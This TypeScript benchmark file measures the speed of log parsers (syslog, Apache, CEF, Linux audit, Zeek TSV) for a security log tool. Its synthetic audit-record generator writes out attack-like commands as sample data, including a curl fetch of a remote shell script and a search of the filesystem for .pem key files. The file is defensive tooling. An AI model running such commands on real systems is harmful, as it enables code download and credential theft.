import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { DuckDBInstance } from '@duckdb/node-api';
import type { LineFormatName } from '../../src/shared/formats';
import { createLineParser } from '../../src/main/engine/ingest/formats';
import { corpusPath, hasCorpus } from '../corpus';
import { perSecond, speedRatio, type Bench, type BenchRow } from './harness';

/**
 * Line parsers on one core, over corpus files repeated in memory (CEF has no
 * corpus file: its lines come from a generator below). Every parser is timed
 * beside a reference over the very same lines in the same run:
 *
 * - `line.split(' ')` (tab for Zeek): the floor of touching every line in JS,
 *   so the ratio says what parsing costs on top of merely visiting the text;
 * - for Zeek, also DuckDB's read_csv of the same rows into a table, the bulk
 *   path the pipeline may take for Zeek TSV (native, multi-threaded: the ratio
 *   shows what the JS path costs against it, not a like-for-like race).
 *
 * Time is CPU time of this process (process.cpuUsage, best of 3 rounds):
 * these machines are shared, and wall time under load measures the neighbours.
 * Targets: the pipeline must import syslog at >= 300,000 lines/s and Zeek at
 * >= 200,000 events/s end to end, so a parser should do 3x that on one core.
 */

const ROUNDS = 3;

function cpuMs(): number {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
}

function corpusLines(rel: string): string[] {
  let b = readFileSync(corpusPath(rel));
  if (b[0] === 0x1f && b[1] === 0x8b) b = gunzipSync(b);
  return b
    .toString('utf8')
    .split('\n')
    .map((l) => (l.endsWith('\r') ? l.slice(0, -1) : l))
    .filter((l) => l.length > 0);
}

function repeat(lines: string[], atLeast: number): string[] {
  const out: string[] = [];
  while (out.length < atLeast) out.push(...lines);
  return out;
}

/** Best-of-N CPU time of fn(). */
function best(fn: () => number): { ms: number; value: number } {
  let ms = Number.POSITIVE_INFINITY;
  let value = 0;
  for (let r = 0; r < ROUNDS; r++) {
    const t = cpuMs();
    value = fn();
    ms = Math.min(ms, cpuMs() - t);
  }
  return { ms, value };
}

/** Parses all lines with a fresh parser; returns the record count (headers and comments are not records). */
function parseAll(format: LineFormatName, lines: string[]): number {
  const p = createLineParser(format, { year: 2017, notAfter: Date.UTC(2018, 0, 1) });
  let records = 0;
  for (let i = 0; i < lines.length; i++) {
    const r = p.line(lines[i] as string, i + 1);
    if ('core' in r) records++;
  }
  for (const r of p.end()) if ('core' in r) records++;
  return records;
}

function splitAll(lines: string[], sep: string): number {
  let n = 0;
  for (let i = 0; i < lines.length; i++) n += (lines[i] as string).split(sep).length;
  return n;
}

/** Deterministic PRNG (mulberry32). */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** CEF lines shaped like a firewall/IDS feed: syslog prefix on some, escapes and spaces in values. */
/**
 * Linux audit records of the kinds one exec produces (SYSCALL, EXECVE with a
 * hex-encoded argument, CWD, PATH, PROCTITLE) and PAM logins, in the shapes
 * auditd writes; the corpus has only login records (fail2ban's selinux-ssh).
 */
export function generateAudit(count: number, seed = 11): string[] {
  const rand = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
  const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex').toUpperCase();
  const out: string[] = [];
  let t = 1_700_000_000;
  let serial = 1000;
  while (out.length < count) {
    t += rand() * 3;
    const stamp = `msg=audit(${t.toFixed(3)}:${++serial}):`;
    const pid = 1000 + Math.floor(rand() * 30000);
    const [exe, args] = pick([
      ['/usr/bin/curl', ['curl', '-s', 'http://198.51.100.23/x.sh']],
      ['/usr/bin/id', ['id']],
      ['/bin/bash', ['bash', '-c', 'echo hi > /tmp/x']],
      ['/usr/bin/find', ['find', '/', '-name', '*.pem']],
    ] as const);
    if (rand() < 0.2) {
      out.push(`type=USER_LOGIN ${stamp} pid=${pid} uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct="${pick(['root', 'admin', 'ubuntu'])}" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.${Math.floor(rand() * 250)} terminal=ssh res=${pick(['failed', 'success'])}'`);
      continue;
    }
    out.push(`type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a3b4c0 a1=55d1c2a3b5e0 a2=55d1c2a3b600 a3=8 items=2 ppid=1 pid=${pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${args[0]}" exe="${exe}" key="exec"`);
    out.push(`type=EXECVE ${stamp} argc=${args.length} ${args.map((a, i) => (/[\s"*>]/.test(a) ? `a${i}=${hex(a)}` : `a${i}="${a}"`)).join(' ')}`);
    out.push(`type=CWD ${stamp} cwd="/home/ubuntu"`);
    out.push(`type=PATH ${stamp} item=0 name="${exe}" inode=1835 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`);
    out.push(`type=PROCTITLE ${stamp} proctitle=${hex(args.join('\0'))}`);
  }
  return out.slice(0, count);
}

export function generateCef(count: number, seed = 7): string[] {
  const rand = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
  const ip = (): string => `${10 + Math.floor(rand() * 200)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${1 + Math.floor(rand() * 254)}`;
  const names = ['Port scan detected', 'Blocked connection', 'Malware download | quarantined', 'Brute force login', 'Policy violation'];
  const acts = ['blocked', 'allowed', 'alerted', 'dropped'];
  const out: string[] = [];
  let t = Date.UTC(2024, 2, 1);
  for (let i = 0; i < count; i++) {
    t += Math.floor(rand() * 2000);
    const name = pick(names).replace(/\|/g, '\\|');
    const ext = [
      `rt=${t}`,
      `src=${ip()}`,
      `spt=${1024 + Math.floor(rand() * 60000)}`,
      `dst=${ip()}`,
      `dpt=${pick([22, 80, 443, 445, 3389])}`,
      `proto=${pick(['TCP', 'UDP'])}`,
      `act=${pick(acts)}`,
      `suser=${pick(['alice', 'bob', 'svc_backup', 'CORP\\\\admin'])}`,
      `request=http://example.com/a?b\\=1&c\\=2`,
      `msg=${pick(['connection attempt from a known scanner', 'rule 42 matched', 'user typed a\\=b twice'])}`,
      `cs1Label=Rule Name cs1=${pick(['Inbound SMB', 'Outbound C2 beacon', 'Default deny'])}`,
    ].join(' ');
    const head = `CEF:0|Acme|NGFW|9.1|${100 + Math.floor(rand() * 50)}|${name}|${Math.floor(rand() * 11)}|${ext}`;
    out.push(rand() < 0.5 ? `<134>Mar  1 10:${String(i % 60).padStart(2, '0')}:00 fw01 ${head}` : head);
  }
  return out;
}

interface Case {
  capability: string;
  format: LineFormatName;
  lines: string[];
  sep: string;
  /** Records per second the parser should reach (3x the pipeline's end-to-end target), when there is one. */
  target?: { rate: number; text: string };
}

function row(c: Case): BenchRow {
  const ours = best(() => parseAll(c.format, c.lines));
  const ref = best(() => splitAll(c.lines, c.sep));
  const unit = c.format === 'zeek-tsv' ? 'rows' : 'lines';
  const rate = ours.value / (ours.ms / 1000);
  return {
    capability: `${c.capability} (${c.lines.length.toLocaleString('en-US')} ${unit}, ${ours.value.toLocaleString('en-US')} records)`,
    loupe: `${perSecond(ours.value, ours.ms, 'records')} (CPU ${(ours.ms / 1000).toFixed(2)} s)`,
    reference: `split('${c.sep === '\t' ? '\\t' : c.sep}') loop: ${perSecond(c.lines.length, ref.ms, unit)}`,
    ratio: speedRatio(ours.ms, ref.ms),
    ...(c.target ? { target: c.target.text, met: rate >= c.target.rate } : {}),
  };
}

/** DuckDB read_csv of the same Zeek rows into a table: the bulk path the pipeline may take for TSV. */
async function duckdbZeekRow(rows: string[], header: string[], ourMs: number, records: number): Promise<BenchRow> {
  const dir = mkdtempSync(join(tmpdir(), 'loupe-bench-parsers-'));
  try {
    const file = join(dir, 'zeek.tsv');
    writeFileSync(file, `${header.join('\t')}\n${rows.join('\n')}\n`);
    const db = await DuckDBInstance.create(':memory:');
    const conn = await db.connect();
    let ms = Number.POSITIVE_INFINITY;
    for (let r = 0; r < ROUNDS; r++) {
      const t = performance.now();
      await conn.run(
        `CREATE OR REPLACE TABLE z AS SELECT * FROM read_csv('${file.replace(/'/g, "''")}', delim='\t', header=true, quote='', escape='', nullstr='-', all_varchar=true)`,
      );
      ms = Math.min(ms, performance.now() - t);
    }
    const n = Number((await conn.runAndReadAll('SELECT count(*) FROM z')).getRows()[0]?.[0] ?? 0);
    conn.closeSync();
    db.closeSync();
    return {
      capability: `Zeek TSV rows vs DuckDB bulk load (${n.toLocaleString('en-US')} rows)`,
      loupe: `${perSecond(records, ourMs, 'rows')} (JS parse + core, CPU)`,
      reference: `read_csv all_varchar into a table: ${perSecond(n, ms, 'rows')} (wall, native threads, no core mapping)`,
      ratio: speedRatio(ourMs, ms),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const bench: Bench = {
  name: 'parsers',
  skip: () => (hasCorpus('linux') && hasCorpus('zeek') && hasCorpus('web') ? undefined : 'corpus (linux, web, zeek) not found'),
  async run(log) {
    const auth = repeat(
      [
        ...corpusLines('linux/elastic-examples/suspicious_login_activity/auth.log'),
        ...corpusLines('linux/loghub/OpenSSH/OpenSSH_2k.log'),
        ...corpusLines('linux/loghub/Linux/Linux_2k.log'),
      ],
      400_000,
    );
    const access = repeat(corpusLines('web/elastic-examples/apache_logs/apache_logs'), 300_000);
    const cef = generateCef(300_000);
    const audit = generateAudit(300_000);
    const dnsAll = corpusLines('zeek/zed-sample-data/zeek-default/dns.log.gz');
    const dnsHeader = dnsAll.filter((l) => l.startsWith('#'));
    const dnsRows = dnsAll.filter((l) => !l.startsWith('#'));
    const zeek = [...dnsHeader, ...repeat(dnsRows, 300_000)];
    log(`lines: auth ${auth.length}, access ${access.length}, cef ${cef.length}, audit ${audit.length}, zeek ${zeek.length}`);

    const rows: BenchRow[] = [];
    const cases: Case[] = [
      { capability: 'syslog / auth.log (EC2 auth.log, OpenSSH, /var/log/messages)', format: 'auth-log', lines: auth, sep: ' ', target: { rate: 900_000, text: '>= 900,000 lines/s (3x 300k)' } },
      { capability: 'Apache combined access log (elastic apache_logs)', format: 'web-access', lines: access, sep: ' ' },
      { capability: 'CEF with syslog prefix (generated)', format: 'cef', lines: cef, sep: ' ' },
      { capability: 'Linux audit records (generated: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, USER_LOGIN)', format: 'linux-audit', lines: audit, sep: ' ' },
      { capability: 'Zeek TSV dns.log rows (zed-sample-data)', format: 'zeek-tsv', lines: zeek, sep: '\t', target: { rate: 600_000, text: '>= 600,000 rows/s (3x 200k)' } },
    ];
    for (const c of cases) {
      const r = row(c);
      log(`${r.capability}: ${r.loupe} | ${r.reference}`);
      rows.push(r);
    }
    const zeekOurs = best(() => parseAll('zeek-tsv', zeek));
    const fieldsLine = dnsHeader.find((l) => l.startsWith('#fields\t'));
    if (fieldsLine) rows.push(await duckdbZeekRow(repeat(dnsRows, 300_000), fieldsLine.split('\t').slice(1), zeekOurs.ms, zeekOurs.value));
    return rows;
  },
};

export default bench;
